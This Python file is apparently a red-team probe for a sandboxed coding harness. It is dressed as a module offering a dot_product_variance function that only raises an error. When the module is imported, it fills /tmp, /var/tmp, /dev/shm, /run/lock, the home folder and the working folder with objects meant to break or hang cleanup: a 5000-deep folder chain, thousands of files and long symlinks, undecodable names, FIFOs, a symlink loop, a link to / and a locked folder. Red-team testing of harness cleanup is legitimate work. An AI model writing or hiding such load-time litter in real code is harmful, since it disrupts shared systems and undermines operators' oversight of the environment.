"""Red team (issue 26, basic-mode leftovers): leaves what a recursive sweep cannot remove or chokes on, in
every writable place (/tmp, /var/tmp, /dev/shm, /run/lock, $HOME, the working folder): a chain of 5000
nested folders (deeper than PATH_MAX, and than Python's recursion limit for shutil.rmtree), 2000 empty files
and 2000 symlinks with long targets, names that are not UTF-8 or hold a newline, a FIFO (a sweep that opens
it blocks), a symlink loop and a link to /, and a folder left with mode 000. Made at load; a later run's
sweep meets them first.

base: clean
class: 6
run: main
"""

import os as _os

_FOLDER = _os.O_RDONLY | _os.O_DIRECTORY


def _chain(parent_fd, depth):
    fd = _os.dup(parent_fd)
    made = 0
    try:
        for _ in range(depth):
            _os.mkdir("d", dir_fd=fd)
            deeper = _os.open("d", _FOLDER, dir_fd=fd)
            _os.close(fd)
            fd = deeper
            made += 1
        _os.mkfifo("fifo", dir_fd=fd)
    except OSError:
        pass
    finally:
        _os.close(fd)
    return made


def _litter(place):
    made = {}
    top = f"{place}/.hostile-rteam-litter-@TOKEN@"
    try:
        _os.mkdir(top)
    except OSError as error:
        return {"refused": error.strerror}
    fd = _os.open(top, _FOLDER)
    try:
        made["deep"] = _chain(fd, 5000)
        files = links = 0
        for index in range(2000):
            try:
                _os.close(_os.open(f"f{index:05d}", _os.O_CREAT | _os.O_WRONLY, 0o600, dir_fd=fd))
                files += 1
                _os.symlink("/" + "x" * 3000 + str(index), f"l{index:05d}", dir_fd=fd)
                links += 1
            except OSError:
                break
        made["files"], made["links"] = files, links
        for name in (b"\xff\xfe-not-utf8", b"new\nline", b"loop"):
            try:
                if name == b"loop":
                    _os.symlink("loop", "loop", dir_fd=fd)
                    _os.symlink("/", "root-link", dir_fd=fd)
                else:
                    _os.mkdir(name, dir_fd=fd)
            except OSError:
                pass
        try:
            _os.mkdir("locked", dir_fd=fd)
            _chain(_os.open("locked", _FOLDER, dir_fd=fd), 50)
            _os.chmod("locked", 0, dir_fd=fd)
        except OSError:
            pass
        try:
            _os.mkfifo("fifo", dir_fd=fd)
        except OSError:
            pass
    finally:
        _os.close(fd)
    # a second top-level entry: a FIFO, right in the shared place
    try:
        _os.mkfifo(f"{place}/.hostile-rteam-fifo-@TOKEN@")
    except OSError:
        pass
    return made


class _AtLoad:
    _made = {}
    for _place in {"/tmp", "/var/tmp", "/dev/shm", "/run/lock", _os.environ.get("HOME", "/tmp"), _os.getcwd()}:
        _made[_place] = _litter(_place)


def dot_product_variance(dim, num_trials=1000, seed=0):
    raise RuntimeError(f"RTEAM r_deep_litter ran: {_AtLoad._made}")
